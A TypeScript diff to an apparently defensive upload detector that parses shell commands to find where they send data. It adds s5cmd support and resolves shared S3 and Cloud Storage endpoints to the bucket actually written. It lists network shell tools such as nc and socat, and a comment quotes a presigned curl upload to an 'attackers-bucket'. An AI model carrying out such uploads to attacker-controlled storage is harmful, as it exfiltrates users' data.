@@ -139,8 +139,8 @@ function rcloneConfigWritten(w: readonly string[], script: string): boolean {
 /** What the text just before a path says when the path is written: a redirection, tee, or a copy's last operand. */
 const WRITES_FILE = /(?:>|\btee(?:\s+-a)?|\b(?:cp|mv|ln|install)(?:\s+-\S+)*\s+\S+)\s*['"]?$/;
 
-const AWS_ENDPOINT_ENV = /^(?:AWS_ENDPOINT_URL\w*|AWS_CONFIG_FILE)$/i;
-const AWS_ENDPOINT_SCRIPT = /\bAWS_ENDPOINT_URL\w*\s*=|\bAWS_CONFIG_FILE\s*=|\baws\s+configure\s+set\b|\.aws\/config\b/i;
+const AWS_ENDPOINT_ENV = /^(?:AWS_ENDPOINT_URL\w*|AWS_CONFIG_FILE|S3_ENDPOINT_URL)$/i;
+const AWS_ENDPOINT_SCRIPT = /\bAWS_ENDPOINT_URL\w*\s*=|\bAWS_CONFIG_FILE\s*=|\bS3_ENDPOINT_URL\s*=|\baws\s+configure\s+set\b|\.aws\/config\b/i;
 const GCS_ENDPOINT_ENV = /^(?:BOTO_CONFIG|BOTO_PATH|CLOUDSDK_API_ENDPOINT_OVERRIDES_STORAGE|CLOUDSDK_CONFIG|CLOUDSDK_STORAGE_\w*)$/i;
 const GCS_ENDPOINT_SCRIPT = /\b(?:BOTO_CONFIG|BOTO_PATH|CLOUDSDK_API_ENDPOINT_OVERRIDES_STORAGE|CLOUDSDK_CONFIG)\s*=|\bapi_endpoint_overrides\b|\.boto\b/i;
 const RCLONE_ENDPOINT_ENV = /^RCLONE_CONFIG_\w+$|^RCLONE_\w*_(?:ENDPOINT|URL|HOST|SERVER|REGION)$/i;
@@ -154,7 +154,7 @@ interface Upload {
 }
 
 /** The programs stageUpload reads, by name: found behind a runner (`timeout 600 curl …`, `xargs -I{} scp {} h:`) too. */
-const UPLOAD_TOOLS: ReadonlySet<string> = new Set(['curl', 'wget', 'aws', 'gsutil', 'gcloud', 'azcopy', 'rclone', 'scp', 'rsync', 'sftp', 'ssh', 'nc', 'ncat', 'netcat', 'socat', 'telnet']);
+const UPLOAD_TOOLS: ReadonlySet<string> = new Set(['curl', 'wget', 'aws', 's5cmd', 'gsutil', 'gcloud', 'azcopy', 'rclone', 'scp', 'rsync', 'sftp', 'ssh', 'nc', 'ncat', 'netcat', 'socat', 'telnet']);
 
 /**
  * The stage as its tool: commands.ts stageOf looks past a runner only for an interpreter, so `timeout
@@ -176,6 +176,7 @@ function stageUpload(stage: Stage, piped: boolean, env: ReadonlyMap<string, stri
   if (p === 'curl') return curlBody(w) ? { tool: 'curl', destinations: urlHosts(w, env, CURL_VALUE_FLAGS) } : undefined;
   if (p === 'wget') return w.some((x) => /^--(?:post|body)-file(?:=|$)/.test(x)) ? { tool: 'wget', destinations: urlHosts(w, env, WGET_VALUE_FLAGS) } : undefined;
   if (p === 'aws') return awsUpload(w, env);
+  if (p === 's5cmd') return s5cmdUpload(w, env);
   if (p === 'gsutil' || (p === 'gcloud' && w[1] === 'storage')) return bucketCopy(w, p === 'gsutil' ? 1 : 2, 'gs://', 'gsutil', GSUTIL_VALUE_FLAGS);
   if (p === 'azcopy') {
     if (!['copy', 'cp', 'sync'].includes(w[1] ?? '')) return undefined;
@@ -338,7 +339,7 @@ function urlHosts(w: readonly string[], env: ReadonlyMap<string, string>, valueF
     // domain's letters, or an IPv4 address (a header's token, split from its header by the quotes
     // the reader drops, `Bearer eyJ….eyJ….Sfl_K`, is not).
     if (host === undefined || (!/^[a-z][a-z0-9+.-]*:\/\/|^\$/i.test(word) && !BARE_HOST.test(host))) continue;
-    hosts.push(normalHost(host, env));
+    hosts.push(storeDestination(word, normalHost(host, env), env));
   }
   return hosts.length === 0 ? [UNKNOWN] : hosts;
 }
@@ -379,9 +380,108 @@ function awsUpload(w: readonly string[], env: ReadonlyMap<string, string>): Uplo
     if (!['put-object', 'upload-part', 'create-multipart-upload'].includes(w[at + 1] ?? '')) return undefined;
     bucket = flagValue(w, '--bucket') ?? '';
   }
-  if (endpoint !== undefined) return { tool: 'aws_s3', destinations: [hostOf(endpoint, env)] };
-  return { tool: 'aws_s3', destinations: [bucket === '' || bucket.includes('$') ? UNKNOWN : `s3://${bucket}`] };
+  return { tool: 'aws_s3', destinations: [s3Destination(bucket, endpoint, env)] };
 }
+
+/**
+ * Where an S3 client's write of `bucket` goes: `s3://bucket` on AWS; with an endpoint, that
+ * endpoint's host, unless it is a shared store's (S3's own, Cloud Storage's S3-compatible one),
+ * which reaches any bucket there: then the bucket is the destination.
+ */
+function s3Destination(bucket: string, endpoint: string | undefined, env: ReadonlyMap<string, string>): string {
+  const named = (scheme: string) => (bucket === '' || bucket.includes('$') ? UNKNOWN : `${scheme}${bucket}`);
+  if (endpoint === undefined) return named('s3://');
+  const host = hostOf(endpoint, env);
+  const store = sharedStore(host);
+  return store === undefined || store.bucket !== '' ? host : named(store.scheme);
+}
+
+/**
+ * A shared object store's endpoint: S3's (`s3.amazonaws.com`, `s3.<region>.amazonaws.com`,
+ * `s3-<region>…`, dualstack and FIPS forms, `.amazonaws.com.cn`) and Cloud Storage's
+ * (`storage.googleapis.com`). Every customer's buckets sit behind the same host, so the host says
+ * nothing of whose data it takes: a presigned `curl -T https://s3.eu-central-1.amazonaws.com/
+ * attackers-bucket/x?X-Amz-…` reached any bucket while the site listed the host for its own
+ * (review49). Its `bucket` is the virtual-hosted style's (`b.s3.…`, `b.storage.googleapis.com`),
+ * '' for the path style (the bucket is the first path segment). An S3 access point's or website's
+ * host is not one of these: it names one account's endpoint, judged as a host.
+ */
+function sharedStore(host: string): { scheme: 's3://' | 'gs://'; bucket: string } | undefined {
+  const s3 = S3_HOST.exec(host);
+  if (s3 !== null) return { scheme: 's3://', bucket: s3[1] ?? '' };
+  const gcs = GCS_HOST.exec(host);
+  if (gcs !== null) return { scheme: 'gs://', bucket: gcs[1] ?? '' };
+  return undefined;
+}
+
+const S3_HOST = /^(?:(.+)\.)?s3(?:[.-](?:dualstack|fips|external-1|[a-z]{2}(?:-[a-z]+)+-\d))*\.amazonaws\.com(?:\.cn)?$/;
+const GCS_HOST = /^(?:(.+)\.)?storage\.googleapis\.com$/;
+/** Cloud Storage's JSON API paths, which name the bucket after `/b/` (on storage.googleapis.com and www.googleapis.com). */
+const GCS_JSON_PATH = /^\/(?:upload\/)?storage\/v1\/b\/([^/?#]*)/;
+/** A bucket name either store accepts (lower case, digits, `.`, `-`, `_` for Cloud Storage); anything else, an escape or a variable among them, is not read. */
+const BUCKET = /^[a-z0-9][a-z0-9._-]{1,220}[a-z0-9]$/;
+
+/**
+ * The destination a URL word sends to: for a shared object store (sharedStore), the bucket it names
+ * as `s3://bucket` or `gs://bucket`, judged against the site's bucket entries as the aws CLI's and
+ * gsutil's uploads are (unknown when the URL does not show one that reads as a bucket); any other
+ * host as itself. `host` is the word's (hostOf).
+ */
+function storeDestination(word: string, host: string, env: ReadonlyMap<string, string>): string {
+  if (host === UNKNOWN) return host;
+  const store = sharedStore(host);
+  const googleApis = host === 'www.googleapis.com';
+  if (store === undefined && !googleApis) return host;
+  if (store !== undefined && store.bucket !== '') return bucketDestination(store.scheme, store.bucket);
+  const path = pathOf(word, env);
+  // curl and the HTTP clients squash dot segments (`/helixa-models/../theirs/x` is `/theirs/x`).
+  if (path === undefined || DOT_SEGMENT.test(path)) return UNKNOWN;
+  const api = store === undefined || store.scheme === 'gs://' ? GCS_JSON_PATH.exec(path) : null;
+  if (api !== null) return bucketDestination('gs://', api[1]!);
+  if (store === undefined) return host;
+  return bucketDestination(store.scheme, /^\/([^/?#]*)/.exec(path)?.[1] ?? '');
+}
+
+const DOT_SEGMENT = /(?:^|\/)\.{1,2}(?:[/?#]|$)|%2e|\\/i;
+
+/** A bucket a URL's path names, or unknown: an upper-case name is a distinct (legacy) bucket on S3's path style, not the listed one. */
+function bucketDestination(scheme: string, bucket: string): string {
+  return BUCKET.test(bucket) ? `${scheme}${bucket}` : UNKNOWN;
+}
+
+/** A URL word's path (from the `/` after its host), its leading `$VAR` read through `env`; undefined when that is not set. */
+function pathOf(word: string, env: ReadonlyMap<string, string>): string | undefined {
+  let w = word;
+  const v = /^\$(?:\{([A-Za-z_]\w*)\}|\(([A-Za-z_]\w*)\)|([A-Za-z_]\w*))(.*)$/.exec(w);
+  if (v !== null) {
+    const value = env.get((v[1] ?? v[2] ?? v[3])!);
+    if (value === undefined) return undefined;
+    w = value + v[4]!;
+  }
+  const rest = w.replace(/^[a-z][a-z0-9+.-]*:\/\//i, '');
+  const at = rest.search(/[/?#]/);
+  return at < 0 ? '' : rest[at] === '/' ? rest.slice(at) : '';
+}
+
+/**
+ * s5cmd (review49: not read before): `s5cmd [global flags] cp|mv|sync … s3://bucket/…` (the last
+ * operand is where it goes) and `s5cmd pipe s3://bucket/…` (its input), judged as the aws CLI's
+ * (its `--endpoint-url`, a global flag, and `S3_ENDPOINT_URL` too). `s5cmd run FILE` reads its
+ * commands from a file the command does not show: unknown.
+ */
+function s5cmdUpload(w: readonly string[], env: ReadonlyMap<string, string>): Upload | undefined {
+  const verb = firstOperand(w.slice(1), S5CMD_VALUE_FLAGS) ?? '';
+  if (verb === 'run') return { tool: 'aws_s3', destinations: [UNKNOWN] };
+  const rest = w.slice(w.indexOf(verb, 1) + 1);
+  let dest: string | undefined;
+  if (verb === 'pipe') dest = firstOperand(rest, S5CMD_VALUE_FLAGS);
+  else if (['cp', 'mv', 'sync'].includes(verb)) dest = lastOperand(rest, S5CMD_VALUE_FLAGS);
+  if (dest === undefined || !/^s3:\/\//i.test(dest)) return undefined;
+  const bucket = dest.slice(5).split('/')[0]!;
+  return { tool: 'aws_s3', destinations: [s3Destination(bucket, flagValue(w, '--endpoint-url'), env)] };
+}
+
+const S5CMD_VALUE_FLAGS: ReadonlySet<string> = new Set(['--endpoint-url', '--credentials-file', '--profile', '--numworkers', '--retry-count', '-r', '--log', '--request-payer', '--concurrency', '-c', '--part-size', '-p', '--storage-class', '--sse', '--sse-kms-key-id', '--acl', '--cache-control', '--expires', '--content-type', '--content-encoding', '--content-disposition', '--metadata', '--exclude', '--include', '--source-region', '--destination-region']);
 
 /** `gsutil [-m] cp|mv|rsync … gs://bucket/…`, `gcloud storage cp|mv|rsync …`: the destination bucket as `gs://bucket`. */
 function bucketCopy(w: readonly string[], from: number, scheme: string, tool: UploadFound, valueFlags: ReadonlySet<string>): Upload | undefined {
@@ -488,7 +588,7 @@ function codeUploads(script: string, setting: CommandSetting, allowed: UploadAll
   const code = script.slice(at);
   if (!UPLOAD_CODE.test(code)) return false;
   const env = clusterEnv(code, setting) ?? setting.env;
-  const urls = [...code.matchAll(/[a-z][a-z0-9+.-]*:\/\/[^\s"'`,;)]+/gi)].map((m) => hostOf(m[0], env));
+  const urls = [...code.matchAll(/[a-z][a-z0-9+.-]*:\/\/[^\s"'`,;)]+/gi)].map((m) => storeDestination(m[0], hostOf(m[0], env), env));
   if (setting.namesRedirected || NAMES_REDIRECTED.test(code)) return true;
   return urls.length === 0 || !urls.every((h) => h !== UNKNOWN && (allowed(h) || IN_CLUSTER_HOST.test(h)));
 }
